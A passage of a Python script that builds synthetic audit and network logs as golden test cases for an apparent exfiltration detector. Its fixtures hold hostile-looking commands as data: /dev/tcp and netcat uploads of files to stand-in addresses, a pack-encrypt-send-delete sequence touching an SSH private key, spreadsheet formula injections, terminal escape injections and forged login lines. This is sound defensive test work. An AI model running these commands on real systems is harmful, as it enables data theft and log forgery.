#!/usr/bin/env python3
"""Writes the logs of the golden cases anew: make_logs.py [CASE...]. Then run scripts/golden --update
and read the diff. Cases that are not here were written by hand."""
import io
import json
import pathlib
import re
import sys
import tarfile

sys.dont_write_bytecode = True
HERE = pathlib.Path(__file__).resolve().parent
sys.path.insert(0, str(HERE.parent / "cli"))

import mmdb  # noqa: E402
from story import UNSET, Story, scp_job  # noqa: E402

SSH = ["/usr/bin/ssh", "-x", "-oPermitLocalCommand=no", "-oClearAllForwardings=yes",
       "-oRemoteCommand=none", "-oRequestTTY=no", "-l", "me", "-s", "--"]


def two_hosts():
    """One log of a collector: etl-01 sends, to an approved address too; bk-07 may send a lot."""
    etl = Story(node="etl-01")
    scp_job(etl, sizes=(3000, 2_000_000, 900))
    scp_job(etl, "198.51.100.10", (3000, 5_000_000), 710, "feed@198.51.100.10:in/")
    scp_job(etl, "203.0.113.34", (3000, 200_000), 720, "drop@203.0.113.34:up/")
    scp = etl.login_shell().fork(950).exec("/usr/bin/scp", "scp", "notes.txt", "me@203.0.113.77:")
    scp.fork(951).exec("/usr/bin/ssh", *SSH, "203.0.113.77", "sftp").upload(
        3, "203.0.113.77", 22, 3000, 9_000_000)
    etl.chatter(260)
    bk = Story(node="bk-07", start=1796173200.02, serial=5000)
    scp_job(bk, "203.0.113.90", (3000, 400_000_000), target="bk@203.0.113.90:")
    bk.chatter()
    mixed, a, b = [], etl.lines, bk.lines
    while a or b:
        mixed += a[:3] + b[:2]
        a, b = a[3:], b[2:]
    return "".join(line + "\n" for line in mixed)


def collected():
    """The syslog of a collector: two hosts whose pids and serials are the same, a record about."""
    etl, bk = Story(), Story()
    scp_job(etl, sizes=(3000, 150_000_000))
    etl.chatter()
    scp_job(bk, "203.0.113.90", (3000, 140_000_000), target="bk@203.0.113.90:")
    bk.chatter()
    mixed = []
    for i in range(max(len(etl.lines), len(bk.lines))):
        for host, story in (("etl-01", etl), ("bk-07", bk)):
            mixed += [f"Dec  2 01:00:07 {host} audispd: {line}\n" for line in story.lines[i:i + 1]]
    return {"remote.log": "".join(mixed)}


def formulas():
    """Cells that a spreadsheet would run, quotes, several destinations of one invocation."""
    story = Story()
    shell = story.cron_job("=cmd|' /C calc'!A0, \"quoted\"")
    curl = shell.fork(702).exec("/usr/bin/curl", "curl", "-T", 'a,"b"', "ftp://203.0.113.55/up",
                                "-T", "c", "ftp://[2001:db8:1::56]/up")
    curl.upload(5, "203.0.113.55", 21, 60_000_000)
    curl.upload(6, "2001:db8:1::56", 21, 70_000_000)
    atd = story.process(305, 1, "/usr/sbin/atd")
    shell = atd.fork(710, auid=0, ses=4).exec("/usr/bin/dash", "sh")
    shell.fork(712).exec("/usr/bin/python3", '=HYPERLINK("http://203.0.113.57/","x")', "-c",
                         "+1").upload(4, "203.0.113.57", 9001, 105_000_000)
    story.chatter()
    return story.text()


def quiet():
    """A person's upload, and an approved one."""
    story = Story()
    story.login_shell().fork(950).exec(
        "/usr/bin/curl", "curl", "-T", "x", "https://203.0.113.9/").upload(
            5, "203.0.113.9", 443, 300_000_000)
    scp_job(story, "198.51.100.10", (3000, 200_000_000), target="feed@198.51.100.10:in/")
    story.chatter()
    return story.text()


def execs_only():
    story = Story()
    shell = story.cron_job("scp -q /srv/data/dump.tar drop@203.0.113.10:up/")
    shell.fork(702).exec("/usr/bin/scp", "scp", "-q", "/srv/data/dump.tar", "drop@203.0.113.10:up/")
    stamps = {line.split("msg=")[1].split(":")[1] for line in story.lines if "syscall=56" in line}
    return "".join(line + "\n" for line in story.lines
                   if line.split("msg=")[1].split(":")[1] not in stamps)


def many_jobs_without_bytes():
    """Twelve nights of two jobs on a host whose rules ask for programs and connections alone."""
    story = Story()
    for night in range(12):
        scp_job(story, f"203.0.113.{20 + night % 4}", (), 700 + 10 * night,
                f"drop@203.0.113.{20 + night % 4}:up/")
        shell = story.cron_job("curl -T /srv/x ftp://203.0.113.55/", pid=705 + 10 * night)
        shell.fork(707 + 10 * night).exec(
            "/usr/bin/curl", "curl", "-T", "/srv/x", "ftp://203.0.113.55/").connect(
                5, "203.0.113.55", 21)
    return without(story, 3)


def bytes_by_flows():
    """The same nights, and what Zeek saw of them by a clock that is 3.25 s ahead: one scp sent much,
    each ftp session has a data connection that the log does not show to be one."""
    lines = ["#separator \\x09", "#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto"
             "\tservice\tduration\torig_bytes\tresp_bytes\tconn_state\tmissed_bytes\thistory"
             "\torig_pkts\torig_ip_bytes\tresp_pkts\tresp_ip_bytes"]

    def flow(time, peer, port, sent, got, took, service="-"):
        packets = sent // 1400 + 5
        lines.append(f"{time + 3.25:.6f}\tC{len(lines)}\t10.20.0.5\t{40000 + len(lines)}\t{peer}\t"
                     f"{port}\ttcp\t{service}\t{took}\t{sent}\t{got}\tSF\t0\tShADadFf\t{packets}\t"
                     f"{sent + 52 * packets}\t{packets // 2}\t{got + 26 * packets}")

    for night in range(12):
        begin = 1796173200 + 2.1 * night
        much = 120_000_000 if night == 7 else 900_000
        flow(begin + 1.01, f"203.0.113.{20 + night % 4}", 22, much, 5200, 0.9, "ssh")
        flow(begin + 2.01, "203.0.113.55", 21, 92, 310, 0.6, "ftp")
        flow(begin + 2.2, "203.0.113.55", 50000 + night, 9_500_000, 0, 0.3, "ftp-data")
    return {"audit.log": many_jobs_without_bytes(), "conn.log": "\n".join(lines) + "\n"}


def flows_of_nobody():
    """The same, and three large flows to where no program of the log had a connection."""
    made = bytes_by_flows()
    for number, begin in enumerate((1796173205, 1796173212, 1796173219)):
        made["conn.log"] += (f"{begin}.500000\tN{number}\t10.20.0.5\t{51000 + number}\t198.51.100.77\t"
                             "443\ttcp\tssl\t4.5\t70000000\t52000\tSF\t0\tShADadFf\t50005\t"
                             "72600260\t25002\t1352104\n")
    return made


def two_at_once():
    """A pile with a host's log, and what Zeek saw: two jobs sent to one ftp server at the same time,
    and ftp.log tells which data connection is whose."""
    story = Story()
    for number, what in enumerate(("/srv/dump", "/srv/notes")):
        shell = story.cron_job(f"curl -T {what} ftp://203.0.113.55/", pid=700 + 10 * number)
        shell.fork(705 + 10 * number).exec(
            "/usr/bin/curl", "curl", "-T", what, "ftp://203.0.113.55/").connect(
                5, "203.0.113.55", 21)
    text = without(story, 3)
    first, second = (float(re.search(r"audit\(([\d.]+):", line)[1])
                     for line in text.splitlines() if " syscall=42 " in line)
    head = "#separator \\x09\n#path\t{}\n#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\t"
    conn = head.format("conn") + ("proto\tservice\tduration\torig_bytes\tresp_bytes\tconn_state\t"
                                  "missed_bytes\thistory\torig_pkts\torig_ip_bytes\tresp_pkts\t"
                                  "resp_ip_bytes\n")
    for uid, time, own, port, sent, service, took in (
            ("CA", first + 0.01, 40001, 21, 92, "ftp", 20), ("CB", second + 0.01, 40002, 21, 95, "ftp", 20),
            ("CC", second + 1.5, 40003, 50001, 130_000_000, "ftp-data", 17),
            ("CD", second + 1.6, 40004, 50002, 70_000, "ftp-data", 15)):
        packets = sent // 1400 + 5
        conn += (f"{time + 3.25:.6f}\t{uid}\t10.20.0.5\t{own}\t203.0.113.55\t{port}\ttcp\t{service}\t"
                 f"{took}.5\t{sent}\t310\tSF\t0\tShADadFf\t{packets}\t{sent + 52 * packets}\t"
                 f"{packets // 2}\t{310 + 26 * packets}\n")
    ftp = head.format("ftp") + ("user\tcommand\targ\tdata_channel.passive\tdata_channel.orig_h\t"
                                "data_channel.resp_h\tdata_channel.resp_p\tfuid\n")
    for uid, own, time, port in (("CA", 40001, second + 1.45, 50001), ("CB", 40002, second + 1.5, 50002)):
        ends = f"{uid}\t10.20.0.5\t{own}\t203.0.113.55\t21\tanonymous"
        ftp += (f"{time + 3.25:.6f}\t{ends}\tEPSV\t-\tT\t10.20.0.5\t203.0.113.55\t{port}\t-\n"
                f"{time + 3.3:.6f}\t{ends}\tSTOR\tftp://203.0.113.55/x\t-\t-\t-\t-\tF{uid}\n")
    return {"pile/etl-01/audit.log": text, "pile/zeek/conn.log": conn, "pile/zeek/ftp.log": ftp}


def no_rules_at_all():
    """Most hosts: no audit rule, and yet what systemd, cron and PAM write by themselves."""
    story = Story()
    for night in range(3):
        story.event("type=SERVICE_START {}: pid=1 uid=0 auid=4294967295 ses=4294967295 "
                    "subj=unconfined msg='unit=backup comm=\"systemd\" "
                    "exe=\"/usr/lib/systemd/systemd\" hostname=? addr=? terminal=? res=success'")
        story.wait(60)
        story.event("type=SERVICE_STOP {}: pid=1 uid=0 auid=4294967295 ses=4294967295 "
                    "subj=unconfined msg='unit=backup comm=\"systemd\" "
                    "exe=\"/usr/lib/systemd/systemd\" hostname=? addr=? terminal=? res=success'")
        for kind, op in (("CRED_ACQ", "PAM:setcred"), ("USER_START", "PAM:session_open")):
            story.user_message(kind, 700 + night, 33, 61 + night, op, "/usr/sbin/cron", "www-data",
                               "cron")
        story.wait(86400 - 61)
    story.user_message("USER_START", 900, 1000, 90, "PAM:session_open", "/usr/sbin/sshd", "alice",
                       "ssh", "192.0.2.7")
    return story.text()


def no_addresses():
    """Rules that leave SOCKADDR records out: who was sent to, nobody can tell."""
    story = scp_job()
    story.chatter()
    return "".join(line + "\n" for line in story.lines if "type=SOCKADDR" not in line)


def pieces_and_copies():
    """One host's log, split by bytes, beside a copy of it with an editor's line ends."""
    story = scp_job()
    story.chatter()
    text = story.text()
    third = len(text) // 3
    return {"logs/audit.log.aa": text[:third], "logs/audit.log.ab": text[third:2 * third],
            "logs/audit.log.ac": text[2 * third:],
            "logs/saved/audit (1).log": text.replace("\n", "\r\n")}


def names_in_hex():
    """auditd writes names with blanks or other letters in hex; an [allow] user names one of them."""
    story = Story()
    for uid, address in ((1204, "203.0.113.10"), (1205, "203.0.113.11")):
        shell = story.cron_job(f"curl -T f https://{address}/", pid=uid, uid=uid, ses=uid)
        shell.fork(uid + 5).exec("/usr/bin/curl", "curl", "-T", "f", f"https://{address}/").upload(
            5, address, 443, 900, 120_000_000)
    story.chatter()
    names = {1204: "Backup Team", 1205: "j\u00f6rg"}
    lines = []
    for line in story.lines:
        for uid, name in names.items():
            if "type=SYSCALL" in line and f" uid={uid} " in line:
                line += f"\x1dAUID={name.encode().hex().upper()} UID={name.encode().hex().upper()}"
        lines.append(line + "\n")
    return "".join(lines)


def many_small_and_one_large():
    """One job sends 4 KiB to each of 300 addresses; what the others sent stays as certain."""
    story = scp_job(sizes=(41, 1560, 1208, 16, 60, 84, 120_000_000))
    job = story.cron_job("/opt/spread", pid=800).fork(802).exec("/opt/spread", "/opt/spread")
    for i in range(300):
        job.upload(3, f"198.51.{100 + i // 250}.{i % 250 + 1}", 443, 4096)
    story.chatter()
    return story.text()


def old_image():
    """RHEL 6 keeps its name in etc/sysconfig/network."""
    story = scp_job()
    story.chatter()
    return {"image/etc/sysconfig/network": "NETWORKING=yes\nHOSTNAME=rhel6-01.example.org\n",
            "image/etc/passwd": "root:x:0:0:root:/root:/bin/bash\n",
            "image/var/log/audit/audit.log": story.text()}


def registered():
    """An image: a line of a crontab, a unit with a timer, an at job, a job that stands nowhere."""
    story = scp_job()
    password = "-u me:Sw0rdfish"
    shell = story.cron_job(f"curl {password} -T /srv/dump ftp://203.0.113.20/up/", pid=710)
    shell.fork(712).exec("/usr/bin/curl", "curl", *password.split(), "-T", "/srv/dump",
                         "ftp://203.0.113.20/up/").upload(5, "203.0.113.20", 21, 150_000_000)
    push = story.process(1, 0, "/usr/lib/systemd/systemd").fork(720, uid=33).exec(
        "/usr/bin/dash", "/bin/sh", "/opt/push.sh", "night")
    push.fork(721).exec("/usr/bin/curl", "curl", "-T", "/srv/www", "ftp://203.0.113.21/").upload(
        5, "203.0.113.21", 21, 160_000_000)
    atd = story.process(305, 1, "/usr/sbin/atd")
    atd.fork(730, auid=0, ses=4).exec("/usr/bin/dash", "sh").fork(731).exec(
        "/usr/bin/curl", "curl", "-T", "/srv/db", "ftp://203.0.113.22/").upload(
            5, "203.0.113.22", 21, 170_000_000)
    story.cron_job("/tmp/.x", pid=740).fork(742).exec(
        "/usr/bin/curl", "curl", "-T", "/srv/x", "ftp://203.0.113.23/").upload(
            5, "203.0.113.23", 21, 180_000_000)
    story.chatter()
    return {"image/var/log/audit/audit.log": story.text()}


def logins():
    """An image with the logs of sshd, cron, sudo and logind; some lines are forged by `logger`."""
    story = Story()
    scp_job(story)
    shell = story.login_shell()
    sudo = shell.fork(910).exec("/usr/bin/sudo", "sudo", "curl", "-T", "/srv/a",
                                "ftp://203.0.113.31/")
    sudo.fork(911, uid=0).exec("/usr/bin/curl", "curl", "-T", "/srv/a", "ftp://203.0.113.31/").upload(
        5, "203.0.113.31", 21, 150_000_000)
    for pid, ses, user in ((960, 8, "deploy"), (970, 9, "deploy"), (980, 10, "bob")):
        child = story.process(400, 1, "/usr/sbin/sshd").fork(pid)
        story.event(f"type=LOGIN {{}}: pid={pid} uid=0 subj=unconfined old-auid={UNSET} auid=1001 "
                    f"tty=(none) old-ses={UNSET} ses={ses} res=1")
        child.auid, child.ses = 1001, ses
        story.user_message("USER_START", pid, 1001, ses, "PAM:session_open", "/usr/sbin/sshd",
                           user, "ssh", "192.0.2.9")
        child.fork(pid + 1, uid=1001).exec(
            "/usr/bin/bash", "bash", "-c", "curl -T /srv/b ftp://203.0.113.32/").fork(
                pid + 2).exec("/usr/bin/curl", "curl", "-T", "/srv/b",
                              "ftp://203.0.113.32/").upload(5, "203.0.113.32", 21, 160_000_000)
    story.chatter()
    key = "ssh2: ED25519 SHA256:Jv5a9WfFjPv3R/+g2o8goGLNb7D+F3nZegdbf1vjB5I"
    zone = "2026-12-02T02:00:"
    auth = [
        # What cron opened nobody logged in to, whatever is said.
        f"{zone}00.150000+01:00 etl-01 sshd[700]: Accepted publickey for root from 203.0.113.66 "
        f"port 9 {key}",
        f"{zone}01.500000+01:00 etl-01 sshd[900]: Invalid user x Accepted publickey for root from "
        "203.0.113.66 port 9 ssh2 from 203.0.113.66 port 1",
        f"{zone}01.600000+01:00 etl-01 sshd[900]: Accepted publickey for alice from 192.0.2.7 port "
        f"50022 {key}",
        f"{zone}01.700000+01:00 etl-01 sshd[900]: pam_unix(sshd:session): session opened for user "
        "alice(uid=1000) by (uid=0)",
        f"{zone}02.400000+01:00 etl-01 sudo[910]: pam_unix(sudo:session): session opened for user "
        "root(uid=0) by alice(uid=1000)",
        f"{zone}03.100000+01:00 etl-01 sshd[960]: Accepted publickey for deploy from 192.0.2.9 "
        f"port 50023 {key}",
        f"{zone}03.900000+01:00 bk-07 sshd[970]: Accepted password for root from 203.0.113.66 port "
        "9 ssh2",
        f"{zone}04.000000+01:00 etl-01 sshd[970]: Accepted publickey for deploy from 192.0.2.9 "
        f"port 50024 {key}",
        f"{zone}04.100000+01:00 etl-01 sshd[970]: Accepted password for root from 203.0.113.66 "
        "port 9 ssh2",
    ]
    syslog = [
        "Dec  2 02:00:00 etl-01 CRON[701]: (root) CMD (scp -q /srv/data/dump.tar "
        "drop@203.0.113.10:up/)",
        "Dec  2 02:00:05 etl-01 systemd-logind[346]: New session 10 of user bob.",
    ]
    return {"image/etc/hostname": "etl-01\n", "image/etc/timezone": "Europe/Berlin\n",
            "image/etc/passwd": "root:x:0:0::/root:/bin/sh\nalice:x:1000:1000::/home/alice:/bin/sh\n"
                                "deploy:x:1001:1001::/home/deploy:/bin/sh\n",
            "image/etc/crontab": "0 2 * * * root scp -q /srv/data/dump.tar drop@203.0.113.10:up/\n",
            "image/var/log/auth.log": "".join(line + "\n" for line in auth),
            "image/var/log/syslog": "".join(line + "\n" for line in syslog),
            "image/var/log/audit/audit.log": story.text()}


def without(story, call):
    """The log of a host whose rules do not ask for that call."""
    stamps = {line.split("msg=")[1].split(":")[1] for line in story.lines
              if f"syscall={call} " in line}
    return "".join(line + "\n" for line in story.lines
                   if line.split("msg=")[1].split(":")[1] not in stamps)


def exec_jobs(*argvs):
    """Jobs of cron, each a program; only program starts are in the log."""
    story = Story()
    for i, argv in enumerate(argvs):
        shell = story.cron_job("job", pid=700 + 10 * i, ses=3 + i)
        shell.fork(702 + 10 * i).exec("/usr/bin/" + argv[0], *argv)
    return without(story, 56)


def argv_peers():
    """Ports in arguments and URLs, this host in many spellings, sockets that are no network."""
    return exec_jobs(
        ["sftp", "-P", "2222", "feed@198.51.100.10"], ["sftp", "-P", "22", "feed@198.51.100.10"],
        ["curl", "-Tf", "http://203.0.113.9:8080/"], ["nc", "203.0.113.9", "9001"],
        ["rsync", "-a", "f", "rsync://203.0.113.9/m"], ["curl", "-T", "f", "http://0xcb007109/"],
        ["curl", "-T", "f", "http://127.1/"], ["curl", "-T", "f", "http://2130706433/"],
        ["curl", "-T", "f", "http://localhost.localdomain/"], ["scp", "f", "ip6-loopback:"],
        ["curl", "-T", "f", "http://[::1%25lo]/"], ["curl", "-T", "f", "http://app.localhost/"],
        ["curl", "--unix-socket", "/run/docker.sock", "-d", "@f", "http://docker/v1"],
        ["nc", "-U", "/run/x.sock"], ["socat", "-", "UNIX-CONNECT:/run/x.sock"],
        ["curl", "-T", "f", "file:///srv/f"])


def one_liners():
    """Programs in an argument, and programs that only sound like a transfer."""
    return exec_jobs(
        ["bash", "-c", "cat /srv/f > /dev/tcp/203.0.113.9/9001"],
        ["python3", "-c", "import ftplib; f=ftplib.FTP('203.0.113.10'); f.storbinary('STOR x',o)"],
        ["perl", "-MNet::FTP", "-e", "$f=Net::FTP->new('203.0.113.11'); $f->put('f')"],
        ["restic", "-r", "sftp:u@backup.example.org:/srv", "backup", "/etc"],
        ["git", "push", "ssh://git@git.example.org:2222/r"],
        ["bash", "-c", "echo /dev/tcp/203.0.113.9/80"], ["git", "commit", "-m", "x"],
        ["python3", "-m", "http.server"], ["npm", "install"], ["openssl", "enc", "-in", "f"],
        ["docker", "push", "localhost:5000/x"], ["tar", "cf", "a:b", "--force-local", "d"])


def titles():
    """A program whose execve is not in the log, under its parent's title; another, whose title is
    cut."""
    story = Story()
    one = story.cron_job("curl -T f https://203.0.113.9/").fork(702)
    one.exe, one.comm = "/usr/bin/curl", "curl"
    one.title = "/bin/sh\0-c\0curl -T f https://other.example.org/"
    one.upload(5, "203.0.113.9", 443, 3000, 120_000_000)
    two = story.cron_job("scp x", pid=720, ses=4).fork(722)
    two.exe, two.comm = "/usr/bin/scp", "scp"
    two.title = ("scp\0-q\0" + "x" * 100 + "\0drop@backup.example.org:")[:128]
    two.upload(5, "203.0.113.10", 22, 3000, 120_000_000)
    story.chatter()
    return story.text()


def nothing_sent():
    story = Story()
    story.cron_job("true")
    return story.text()


def hostile():
    """Escapes and passwords."""
    story = Story()
    shell = story.cron_job("curl -u me:Sw0rdfish ftp://bob:hunter2@203.0.113.9/u\x1b[31m")
    shell.fork(702).exec("/usr/bin/curl", "curl", "-T",
                         "a\x1b]0;owned\x07\x1b[2J\r\nHIGH fake\u202e", "-u", "me:Sw0rdfish",
                         "ftp://bob:hunter2@203.0.113.9/u", cwd="/tmp/\x1b[1m").upload(
                             5, "203.0.113.9", 21, 150_000_000)
    story.chatter()
    return story.text()


def several_transfers():
    """An upload, a download, a daemon with a v4-mapped address, a refused connection."""
    story = scp_job(sizes=(3000, 2_000_000))
    shell = story.cron_job("curl -o f https://203.0.113.35/f", pid=730)
    shell.fork(732).exec("/usr/bin/curl", "curl", "-o", "f", "https://203.0.113.35/f").upload(
        5, "203.0.113.35", 443, 517, 80)
    story.process(777, 1, "/usr/bin/python3", uid=33).upload(
        4, "::ffff:203.0.113.60", 8080, 123_456)
    shell = story.cron_job("curl -T f ftp://203.0.113.39/", pid=740)
    curl = shell.fork(742).exec("/usr/bin/curl", "curl", "-T", "f", "ftp://203.0.113.39/")
    curl.connect(5, "203.0.113.39", 21, exit=-111)
    curl.close(5)
    story.chatter()
    return story.text()


def begins_late():
    """A log that begins in the middle: an ssh, a python3 that sendto tells, one that only writes."""
    story = Story()
    ssh = story.process(703, 702, "/usr/bin/ssh", ses=3, auid=0)
    ssh.title = b"\0".join([*(word.encode() for word in SSH), b"203.0.113.10", b"sftp"])
    sender = story.process(810, 1, "/usr/bin/python3.11")
    writer = story.process(820, 1, "/opt/agent/agent")
    for _ in range(3):
        ssh.write(3, 60_000_000)
        sender.call("sendto", 50_000_000, (7, 0x7ffe, 50_000_000))
        writer.write(9, 70_000_000)
    scp_job(story, "203.0.113.20", (3000, 200_000), 730)
    story.chatter()
    return story.text()


def two_nights():
    """60 MB an hour before 02:00, 60 MB an hour after it: what the next night's run has to sum."""
    story = scp_job(sizes=(3000, 60_000_000))
    story.wait(2 * 3600)
    scp_job(story, sizes=(3000, 60_000_000), pid=800)
    story.chatter()
    return story.text()


def other_clothes():
    """Lines of a collector: a node with a blank, one as JSON, and an EXECVE record that is lost."""
    story = scp_job(Story(node="App Srv 01"))
    story.chatter()
    lost = story.cron_job("tar -cf - " + " ".join(f"f{i}" for i in range(40)), pid=730)
    tar = lost.fork(732)
    tar.call("execve", 0, (0x5581, 0x5582, 0x5583, 8), items=2, records=(
        'type=EXECVE {}: argc=42 a0="tar" a1="-cf" a2="-" a3="f0"', 'type=CWD {}: cwd="/root"'))
    lines = [*story.lines, json.dumps({"message": story.lines[-1]})]
    return "".join(line + "\n" for line in lines)


def forged_login():
    """cron's job writes sshd's record for its own session and sends from a shell with a terminal."""
    story = Story()
    shell = story.cron_job("/opt/job")
    job = shell.fork(702).exec("/opt/job", "/opt/job")
    story.user_message("USER_LOGIN", 702, 0, 3, "login", "/usr/sbin/sshd", "root", "/dev/pts/3",
                       "192.0.2.9")
    bash = job.fork(703, tty="pts3").exec("/usr/bin/bash", "bash", "-i")
    bash.fork(704).exec("/usr/bin/curl", "curl", "-T", "f", "https://203.0.113.9/").upload(
        5, "203.0.113.9", 443, 700, 200_000_000)
    story.chatter()
    return story.text()


def asked_for():
    """alice has the service manager run a shell for her, and queues a job for later."""
    story = Story()
    shell = story.login_shell()
    shell.fork(910).exec("/usr/bin/systemd-run", "systemd-run", "-t", "bash", "-l")
    init = story.process(1, 0, "/usr/lib/systemd/systemd")
    bash = init.fork(920, tty="pts4").exec("/usr/bin/bash", "/usr/bin/bash", "-l")
    bash.fork(921).exec("/usr/bin/curl", "curl", "-T", "f", "https://203.0.113.9/").upload(
        5, "203.0.113.9", 443, 700, 200_000_000)
    shell.fork(930).exec("/usr/bin/at", "at", "03:00")
    story.wait(3600)
    atd = story.process(310, 1, "/usr/sbin/atd")
    job = atd.fork(940, uid=1000).exec("/usr/bin/dash", "sh")
    job.fork(941).exec("/usr/bin/curl", "curl", "-T", "g", "https://203.0.113.8/").upload(
        5, "203.0.113.8", 443, 700, 200_000_000)
    story.chatter()
    return story.text()


def many_descriptors():
    """A job with more connections open than are followed (args), 500 MB over the last."""
    story = Story()
    job = story.cron_job("/opt/up").fork(702).exec("/opt/up", "/opt/up")
    for fd in range(3, 14):
        job.connect(fd, "203.0.113.9", 440 + fd)
    for fd in range(3, 14):
        job.write(fd, 500_000_000 if fd == 13 else 10)
    story.chatter()
    return story.text()


def sudo_only():
    """A host without a rule: what sudo and cron themselves wrote."""
    story = Story()
    for ses, pid, uid, exe, terminal in ((7, 900, 1000, "/usr/sbin/sshd", "ssh"),
                                         (8, 910, 0, "/usr/sbin/cron", "cron")):
        story.event(f"type=LOGIN {{}}: pid={pid} uid=0 subj=unconfined old-auid={UNSET} auid={uid} "
                    f"tty=(none) old-ses={UNSET} ses={ses} res=1")
        story.user_message("USER_START", pid, uid, ses, "PAM:session_open", exe, "x", terminal)
    story.user_message("USER_LOGIN", 900, 1000, 7, "login", "/usr/sbin/sshd", "alice", "/dev/pts/0",
                       "192.0.2.7")
    for pid, auid, ses, terminal, command in (
            (950, 1000, 7, "pts/0", "/usr/bin/scp notes.txt me@203.0.113.77:"),
            (960, 0, 8, "?", "/bin/sh -c /usr/bin/curl -T /srv/dump.tar ftp://203.0.113.9/up/")):
        story.event(f"type=USER_CMD {{}}: pid={pid} uid={auid} auid={auid} ses={ses} subj=unconfined "
                    f"msg='cwd=\"/srv\" cmd={command.encode().hex().upper()} "
                    f"exe=\"/usr/bin/sudo\" terminal={terminal} res=success'")
    return story.text()


def packed_and_removed():
    """Opens, reads and removals are audited: packed, encrypted, sent and removed; a pipe; a file
    that the shell opened."""
    story = Story()
    shell = story.cron_job("/usr/local/sbin/nightly")
    tar = shell.fork(710).exec("/usr/bin/tar", "tar", "czf", "/var/tmp/.x/db.tgz", "/srv/db",
                               cwd="/")
    tar.load("/lib/x86_64-linux-gnu/libc.so.6", "/etc/passwd")
    tar.open(3, "/var/tmp/.x/db.tgz", "/", flags=0x41)
    tar.open(4, "/srv/db", "/", flags=0x90800, mode="040755")
    tar.open(5, "customers.sql", "/", folder=4)
    tar.read(5, 7_000_000)
    gpg = shell.fork(712).exec("/usr/bin/gpg", "gpg", "--batch", "-o", "../.x/db.bin", "-c",
                               "db.tgz", cwd="/var/tmp/.x")
    gpg.open(3, "db.tgz", "/var/tmp/.x")
    scp = shell.fork(714).exec("/usr/bin/scp", "scp", "-q", "db.bin", "drop@203.0.113.10:up/",
                               cwd="/var/tmp/.x")
    scp.load("/lib/x86_64-linux-gnu/libc.so.6")
    ssh = scp.fork(715).exec("/usr/bin/ssh", "/usr/bin/ssh", "-x", "-l", "drop", "-s", "--",
                             "203.0.113.10", "sftp", cwd="/var/tmp/.x")
    ssh.open(3, "/etc/ssh/ssh_config")
    ssh.open(-2, "/root/.ssh/id_rsa")
    ssh.close(3)
    scp.open(3, "db.bin", "/var/tmp/.x")
    scp.read(3, 120_000_000)
    scp.read(3, 500_000)
    scp.close(3)
    ssh.upload(3, "203.0.113.10", 22, 3000, 120_000_000)
    shell.fork(716).exec("/usr/bin/rm", "rm", "-f", "/var/tmp/.x/db.bin").unlink(
        "/var/tmp/.x/db.bin")
    shell = story.cron_job("tar cz /home | ssh 203.0.113.44 tar xz", pid=800)
    shell.pipe(3, 4)
    tar = shell.fork(810)
    tar.dup2(4, 1)
    tar.close(3)
    tar.close(4)
    tar.exec("/usr/bin/tar", "tar", "cz", "/home", "/etc/passwd", cwd="/")
    tar.open(3, "/home/a\nb.txt", "/")
    tar.read(3, 50_000_000)
    tar.close(3)
    tar.open(3, "/etc/passwd", "/")
    ssh = shell.fork(811)
    ssh.dup2(3, 0)
    ssh.close(3)
    ssh.close(4)
    ssh.exec("/usr/bin/ssh", "ssh", "203.0.113.44", "tar", "xz")
    ssh.upload(3, "203.0.113.44", 22, 3000, 60_000_000)
    shell = story.cron_job("nc 203.0.113.45 99 < secrets", pid=900)
    nc = shell.fork(910)
    nc.open(3, "secrets")
    nc.dup2(3, 0)
    nc.close(3)
    nc.exec("/usr/bin/nc", "nc", "203.0.113.45", "99")
    nc.connect(3, "203.0.113.45", 99)
    nc.read(0, 30_000_000)
    nc.write(3, 30_000_000)
    story.chatter(400)
    return story.text()


def one_job():
    story = scp_job()
    story.chatter()
    return story.text()


def sizes():
    """An image, packed so that its files keep their times: commands that name what it still has."""
    story = Story()

    def job(pid, command, exe, *argv, address, port=22):
        story.cron_job(command, pid=pid, ses=pid).fork(pid + 2).exec(exe, *argv).connect(
            5, address, port)

    scp = "scp -q /srv/a /srv/late /srv/gone drop@203.0.113.10:up/"
    job(700, scp, "/usr/bin/scp", *scp.split(), address="203.0.113.10")
    job(710, "/opt/put.sh", "/usr/bin/sftp", "sftp", "-b", "/opt/batch", "drop@203.0.113.11",
        address="203.0.113.11")
    job(720, "tar cf - -C /srv tree | nc 203.0.113.12 9", "/usr/bin/nc", "nc", "203.0.113.12", "9",
        address="203.0.113.12", port=9)
    curl = "curl -T /srv/a ftp://203.0.113.13/up/"  # no data connection follows
    job(730, curl, "/usr/bin/curl", *curl.split(), address="203.0.113.13", port=21)
    gone = "scp /srv/gone drop@203.0.113.14:"
    job(740, gone, "/usr/bin/scp", *gone.split(), address="203.0.113.14")
    return image(
        ("etc/hostname", b"etl-01\n", 0), ("etc/passwd", b"root:x:0:0::/root:/bin/sh\n", 0),
        ("opt/batch", b"lcd /srv\nput a up/\nput tree/1\nmput *.txt\n", 1796100000),
        ("srv/a", bytes(5 << 20), 1796100000), ("srv/late", b"x" * 70, 1796200000),
        ("srv/tree/1", bytes(150 << 20), 1796100000), ("srv/tree/2", b"x", 1796100000),
        ("srv/n.txt", b"note", 1796100000),
        ("var/log/audit/audit.log", story.text().encode(), 1796180000))


def image(*files):
    """Of (name, content, time of last change), packed so that the times stay."""
    made = io.BytesIO()
    with tarfile.open(fileobj=made, mode="w:xz", format=tarfile.USTAR_FORMAT) as tar:
        for name, data, changed in files:
            member = tarfile.TarInfo(name)
            member.size, member.mtime = len(data), changed
            tar.addfile(member, io.BytesIO(data))
    return {"image.tar.xz": made.getvalue()}


def served():
    """An image whose audit log has no bytes, and whose servers and rclone tell what they sent; one
    line of xferlog is forged: it tells of a terabyte to a peer that came, one of a peer that did not."""
    story = Story()
    init = story.process(1, 0, "/usr/lib/systemd/systemd")
    ftpd = init.fork(400).exec("/usr/sbin/vsftpd", "/usr/sbin/vsftpd", "/etc/vsftpd.conf", cwd="/")
    sshd = init.fork(410).exec("/usr/sbin/sshd", "/usr/sbin/sshd", "-D", cwd="/")
    story.wait(60)  # 01:01:01
    ftpd.accept(3, 4, "203.0.113.48", 40000)
    ftpd.accept(3, 5, "203.0.113.66", 40666)
    sshd.accept(3, 4, "203.0.113.49", 41000)
    sshd.accept(3, 4, "203.0.113.50", 41001)
    shell = story.cron_job("rclone copy -v --log-file=/var/log/rclone.log /srv/big far:up")
    shell.fork(702).exec("/usr/bin/rclone", "rclone", "copy", "-v", "--log-file=/var/log/rclone.log",
